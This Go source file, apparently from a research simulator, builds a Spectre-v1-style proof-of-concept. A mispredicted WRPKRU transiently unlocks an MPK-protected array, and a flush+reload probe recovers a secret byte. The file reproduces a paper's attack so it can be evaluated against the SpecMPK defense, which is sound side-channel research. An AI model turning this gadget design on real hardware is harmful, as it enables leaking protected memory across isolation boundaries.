// Package attack builds and drives the proof-of-concept transient
// permission-upgrade attack of the paper (§IX-C, Figs. 12(c) and 13):
// a Spectre-v1-style gadget whose mispredicted path contains a WRPKRU that
// transiently enables an access-disabled secret array, followed by a
// flush+reload probe over a 256-entry array to recover the secret byte.
//
// On the NonSecure speculative microarchitecture the probe shows two hot
// indices — the training value and the transiently leaked secret. On
// SpecMPK (and the serialized baseline) only the training value is hot.
package attack

import (
	"specmpk/internal/asm"
	"specmpk/internal/isa"
	"specmpk/internal/mem"
	"specmpk/internal/mpk"
	"specmpk/internal/pipeline"
)

// Gadget memory layout.
const (
	heapBase   = 0x20000000
	mailbox    = heapBase + 0x100 // branch condition, flushed before attack
	array1Base = 0x62000000       // the protected page (pKey 3)
	array2Base = 0x63000000       // the probe array (pKey 0)

	// SecretKey is the protection key guarding array1.
	SecretKey = 3

	// ProbeStride is the probe-array stride: one value maps to one line
	// well apart from its neighbours (the paper's PoC uses 512).
	ProbeStride = 512
	// ProbeEntries is the number of probed values (one per byte value).
	ProbeEntries = 256
)

// Config parameterises the gadget.
type Config struct {
	// TrainValue is array1[TrainIndex], loaded legitimately during training.
	TrainValue byte
	// SecretValue is array1[SecretIndex], reachable only transiently.
	SecretValue byte
	// TrainRounds is the number of training calls to the victim.
	TrainRounds int
}

// DefaultConfig reproduces the paper's Fig. 13 values: 72 during training,
// 101 as the secret.
func DefaultConfig() Config {
	return Config{TrainValue: 72, SecretValue: 101, TrainRounds: 60}
}

const (
	trainIndex  = 5
	secretIndex = 9
)

// PKRU values of every probe program: all keys open, and the steady state
// with the secret key access-disabled.
var (
	enable  = int64(mpk.AllowAll)
	disable = int64(mpk.AllowAll.WithKey(SecretKey, mpk.Perm{AD: true}))
)

// probeProgram starts a probe program: the heap, the secret page array1
// under SecretKey holding cfg's training and secret bytes, and the probe
// array array2.
func probeProgram(cfg Config) *asm.Builder {
	b := asm.NewBuilder(0x10000)
	b.Region("heap", heapBase, mem.PageSize, mem.ProtRW, 0)
	b.Region("secret", array1Base, mem.PageSize, mem.ProtRW, SecretKey)
	probeBytes := uint64((ProbeEntries+1)*ProbeStride+mem.PageSize-1) &^ (mem.PageSize - 1)
	b.Region("probe", array2Base, probeBytes, mem.ProtRW, 0)

	secret := make([]byte, 16)
	secret[trainIndex] = cfg.TrainValue
	secret[secretIndex] = cfg.SecretValue
	b.Data(array1Base, secret)
	return b
}

// flushProbe emits the loop that flushes the probe array from every cache
// level (it clobbers r9 and r10).
func flushProbe(f *asm.FuncBuilder) {
	f.Movi(9, ProbeEntries)
	f.Movi(10, array2Base)
	f.Label("flush")
	f.Clflush(10, 0)
	f.Addi(10, 10, ProbeStride)
	f.Addi(9, 9, -1)
	f.Bne(9, isa.RegZero, "flush")
}

// reloadProbe emits the reload loop, which loads every probe entry off r4
// in turn, and then halts.
func reloadProbe(f *asm.FuncBuilder) {
	f.Movi(9, 0)
	f.Movi(15, ProbeEntries)
	f.Label("reload")
	f.Shli(13, 9, 9) // i * 512
	f.Add(13, 13, 4)
	f.Ld(14, 13, 0)
	f.Addi(9, 9, 1)
	f.Blt(9, 15, "reload")
	f.Halt()
}

// ArmGuard is the attack call's fence substitute: it stores val to the
// guard word at r6 and CLFLUSHes it, so the victim's guard load misses and
// its branch resolves slowly enough for the transient window to run.
//
// Ordering matters in the out-of-order core: the store only reaches the
// cache at retirement, and both the CLFLUSH and the victim's guard load
// would otherwise execute before it. A long dependency chain over val in
// r21 (numerically zero for every val used: 0, and 4 squared ten times
// overflows to 0) feeds the flush address and the guard pointer, so flush
// and load issue strictly after the store has committed. It clobbers r11
// and r21.
func ArmGuard(f *asm.FuncBuilder, val int64) {
	f.Movi(11, val)
	f.St(11, 6, 0)
	f.Addi(21, 11, 0)
	for i := 0; i < 10; i++ {
		f.Mul(21, 21, 21)
	}
	f.Add(6, 6, 21) // r6 unchanged, now dependent on the chain
	f.Clflush(6, 0)
}

// leakSecret emits the body that a mispredicted path runs (paper Listing 1,
// Fig. 12(c)): open array1, read array1[r12], close it again, and touch the
// probe entry the byte selects. The PKRU values are load-immediates next to
// their WRPKRUs, so the §IX-B compiler discipline holds.
func leakSecret(f *asm.FuncBuilder) {
	f.Movi(24, enable)
	f.Wrpkru(24) // enable access for array1
	f.Add(17, 5, 12)
	f.Lb(18, 17, 0) // array1[X]
	f.Movi(25, disable)
	f.Wrpkru(25) // disable again
	f.Shli(18, 18, 9)
	f.Add(18, 18, 4)
	f.Ld(19, 18, 0) // array2[array1[X]*512]
}

// BuildGadget assembles the self-contained attack program:
//
//	flush array2 → train victim (condition true) → set condition false,
//	flush it → call victim once (the branch mispredicts; the WRPKRU and the
//	two loads execute transiently) → reload array2 and time every entry.
func BuildGadget(cfg Config) (*asm.Program, error) {
	b := probeProgram(cfg)

	f := b.Func("main")
	f.Movi(4, array2Base)
	f.Movi(5, array1Base)
	f.Movi(6, mailbox)
	f.Movi(26, enable)
	f.Movi(27, disable)
	f.Wrpkru(27) // steady state: secret locked

	// Phase 1: flush the probe array from every cache level.
	flushProbe(f)

	// Phase 2: train the victim branch (condition true, X = trainIndex).
	f.Movi(9, int64(cfg.TrainRounds))
	f.Label("train")
	f.Movi(11, 1)
	f.St(11, 6, 0) // mailbox = 1
	f.Movi(12, trainIndex)
	f.Call("victim")
	f.Addi(9, 9, -1)
	f.Bne(9, isa.RegZero, "train")

	// Phase 3: the attack call. Condition false (the branch will resolve
	// taken), mailbox flushed so resolution is slow enough for the
	// transient window to run the protected loads.
	ArmGuard(f, 0)
	f.Movi(12, secretIndex)
	f.Call("victim")

	// Phase 4: reload — time every probe entry.
	reloadProbe(f)

	// The victim. The attack works even under the paper's compiler
	// assumption, because the problem is the *existence* of a
	// permission-upgrading WRPKRU on a mispredicted path, not a
	// speculation-dependent value.
	v := b.Func("victim")
	v.Ld(16, 6, 0)                 // condition (slow when flushed)
	v.Beq(16, isa.RegZero, "skip") // trained not-taken
	leakSecret(v)
	v.Label("skip")
	v.Ret()

	return b.Link()
}

// Result is one flush+reload measurement.
type Result struct {
	Mode pipeline.Mode
	Cfg  Config
	// Latency[i] is the observed reload latency of probe entry i in cycles
	// (0 when the entry was never measured).
	Latency [ProbeEntries]int
	// Threshold separates cache hits from misses.
	Threshold int
}

// HotIndices returns the probe entries that hit in the cache.
func (r Result) HotIndices() []int {
	var hot []int
	for i, lat := range r.Latency {
		if lat > 0 && lat < r.Threshold {
			hot = append(hot, i)
		}
	}
	return hot
}

// Leaked reports whether the secret value's entry was hot.
func (r Result) Leaked() bool {
	lat := r.Latency[r.Cfg.SecretValue]
	return lat > 0 && lat < r.Threshold
}

// TrainingVisible reports whether the training value's entry was hot (it
// should be, on every microarchitecture — it was accessed architecturally).
func (r Result) TrainingVisible() bool {
	lat := r.Latency[r.Cfg.TrainValue]
	return lat > 0 && lat < r.Threshold
}

// Run executes the flush+reload attack on the given microarchitecture with
// the Table III machine and returns the per-index reload latencies.
func Run(mode pipeline.Mode, cfg Config) (Result, error) {
	return RunMachine(pipeline.DefaultConfig(), mode, cfg)
}

// RunMachine is Run with an explicit base machine configuration.
func RunMachine(mcfg pipeline.Config, mode pipeline.Mode, cfg Config) (Result, error) {
	prog, err := BuildGadget(cfg)
	if err != nil {
		return Result{}, err
	}
	return runProbe(mcfg, prog, mode, cfg)
}
